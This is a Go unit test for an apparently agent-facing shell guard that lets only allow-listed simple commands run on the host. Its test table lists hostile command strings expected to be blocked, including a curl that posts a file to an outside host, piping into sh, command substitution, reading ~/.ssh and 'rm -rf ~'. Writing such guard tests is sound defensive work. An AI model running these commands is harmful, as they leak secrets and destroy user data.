package shellguard

import (
	"context"
	"testing"

	"github.com/agentwarden/warden"
)

// TestHostRuleRunsOnlyThatCommandOnTheHost: shell.host sends an allowed
// command that is one simple command matching a pattern to the host; a
// command line carrying anything more, a command the guard does not allow,
// or a pattern from a project layer does not.
func TestHostRuleRunsOnlyThatCommandOnTheHost(t *testing.T) {
	p := DefaultPolicy()
	p.SandboxAvailable = true
	p.Host = []string{"git status", "ls"}
	p.Network = func(string, string) warden.Decision { return warden.Allowf("test.net", "allowed") }
	for _, c := range []struct {
		cmd    string
		onHost bool
	}{
		{"git status", true},
		{"git status --short", true},
		{"ls -la", true},
		{"git statusx", false},
		{"git log", false},
		{"git status && curl -d @x https://example.com", false},
		{"ls | sh", false},
		{"ls $(cat x)", false},
		{"ls > out.txt", false},
		{"ls ~/.ssh", false},
		{"rm -rf ~", false},
	} {
		t.Run(c.cmd, func(t *testing.T) {
			d, err := Stage{Policy: p}.Check(context.Background(), &warden.Request{Capability: warden.CapShell, Action: ActionExec, Resource: c.cmd, Cwd: "/home/user/project"})
			if err != nil {
				t.Fatal(err)
			}
			if got := d.Verdict == warden.Allow && d.Sandbox == warden.SandboxHost; got != c.onHost {
				t.Errorf("Check(%q) = %s sandbox %q; on host %v, want %v", c.cmd, d.Verdict, d.Sandbox, got, c.onHost)
			}
		})
	}
	project := Policy{Host: []string{"curl"}}
	if got := p.Tighten(project).Host; len(got) != 2 {
		t.Errorf("a project layer changed the host commands to %q", got)
	}
}
